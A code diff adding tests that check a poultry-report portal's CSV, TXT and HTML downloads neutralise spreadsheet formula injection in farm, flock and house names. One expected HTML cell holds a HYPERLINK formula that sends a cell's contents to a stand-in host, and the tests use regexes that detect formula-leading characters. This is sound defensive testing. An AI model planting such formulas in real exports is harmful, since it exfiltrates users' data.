@@ -3,6 +3,8 @@ import { describe, expect, it } from 'vitest';
 import { loadLocaleTree } from '../../i18n/resources';
 import { downloadName, downloadText } from './downloads';
 import { TEST_REPORT } from './testReport';
+import { csvCells, formulaCells, HOSTILE, HOSTILE_NAMES } from '../../components/reports/hostileNames.testing';
+import type { AvesPesosResponse } from '@portal/shared';
 
 async function translator(language: 'pt' | 'en' | 'es'): Promise<TFunction> {
   const i18n = createInstance();
@@ -10,10 +12,10 @@ async function translator(language: 'pt' | 'en' | 'es'): Promise<TFunction> {
   return i18n.t;
 }
 
-const options = async (language: 'pt' | 'en' | 'es', locale: string, separator: string) => ({
+const options = async (language: 'pt' | 'en' | 'es', locale: string, separator: string, report = TEST_REPORT) => ({
   t: await translator(language),
   kind: 'aves' as const,
-  report: TEST_REPORT,
+  report,
   locale,
   language,
   separator,
@@ -44,6 +46,32 @@ describe('report downloads', () => {
     expect(html).toContain('<th class="n">Peso médio</th>');
     expect(html).toContain('<td class="n">6.000,0</td>');
     expect(html).toContain('<td class="n">1.234,5</td>');
+  });
+
+  describe('with farm, flock, house, side and line named like formulas (from devices, imports, grantees)', () => {
+    const renamed: Record<string, string> = { nome_nucleo: HOSTILE.farm, lote: HOSTILE.flock, aviario: HOSTILE.house, lado: HOSTILE.side, linha: HOSTILE.device };
+    const hostile = JSON.parse(JSON.stringify(TEST_REPORT), (key, value: unknown) => renamed[key] ?? value) as AvesPesosResponse;
+
+    it.each([';', ',', '\t', '|'])('CSV (%j): every name defused, every number still a number', async (separator) => {
+      const rows = csvCells(downloadText('csv', await options('pt', 'pt-BR', separator, hostile)), separator);
+      expect(rows.flatMap(formulaCells)).toEqual([]);
+      const box = rows[6]!;
+      expect(box.slice(2, 9)).toEqual([`'${HOSTILE.farm}`, `'${HOSTILE.flock}`, 'Macho', `'${HOSTILE.house}`, `'${HOSTILE.side}`, '2', `'${HOSTILE.device}`]);
+      expect(box.slice(11, 13)).toEqual(['1', '1234,5']);
+    });
+
+    it('TXT and HTML: no name starts a column or a cell as a formula', async () => {
+      const txt = downloadText('txt', await options('pt', 'pt-BR', ';', hostile));
+      for (const name of HOSTILE_NAMES) {
+        expect(txt).toContain(`'${name}`);
+        expect(txt.split(`'${name}`).join('')).not.toContain(name);
+      }
+      const html = downloadText('html', await options('pt', 'pt-BR', ';', hostile));
+      expect(html).toContain('<td>&#39;=HYPERLINK(&quot;http://x.test/?&quot;&amp;A1;&quot;ver&quot;)</td>');
+      expect(html).toContain('<td>&#39;@SUM(1+1)</td>');
+      expect(html).not.toMatch(/<t[dh][^>]*>[=+\-@\t]/);
+      expect(html).not.toMatch(/<dd>[=+\-@\t]/);
+    });
   });
 
   it('names the file after the report and its period', () => {
